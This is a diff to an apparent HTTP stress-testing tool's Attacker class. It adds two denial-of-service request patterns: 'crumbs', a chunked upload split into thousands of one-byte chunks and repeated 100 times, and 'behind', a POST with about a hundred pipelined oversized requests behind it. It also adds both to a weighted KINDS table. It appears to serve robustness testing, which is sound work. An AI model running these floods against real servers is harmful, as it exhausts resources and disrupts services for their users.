@@ -170,6 +170,27 @@ class Attacker:
         while True:
             await self._one("GET / HTTP/1.1", *lines)
 
+    async def crumbs(self) -> None:
+        """A photo in chunks of one byte (RFC 9112, 7.1)."""
+        await self._one(
+            "POST /_stcore/upload_file/a/b HTTP/1.1",
+            "Transfer-Encoding: chunked",
+            f"Origin: {self.address}",
+            body=b"1\r\n&\r\n" * 20_000,
+            times=100,
+        )
+
+    async def behind(self) -> None:
+        """A form, and behind it as many requests as there is room for (RFC 9112, 9.3.2)."""
+        more = self._head("GET / HTTP/1.1", *(f"X-{k:04}: {k}" for k in range(80)))
+        head = self._head("POST /staff HTTP/1.1", "Content-Length: 2000")
+        reader, writer = await self._open()
+        try:
+            writer.write(head + b"&" * 2000 + more * 100)
+            await asyncio.wait_for(reader.read(), 60)
+        finally:
+            writer.close()
+
     async def pings(self) -> None:
         """A page that asks whether the server is there, as fast as it can (RFC 6455, 5.5.2)."""
         await self._frames(b"", b"\x89\x80\0\0\0\0" * 2000)
@@ -373,6 +394,8 @@ KINDS: Final = {
     "packed": 50,
     "ranges": 50,
     "wide": 50,
+    "crumbs": 40,
+    "behind": 40,
     "pings": 40,
     "fragments": 40,
     "nothings": 40,
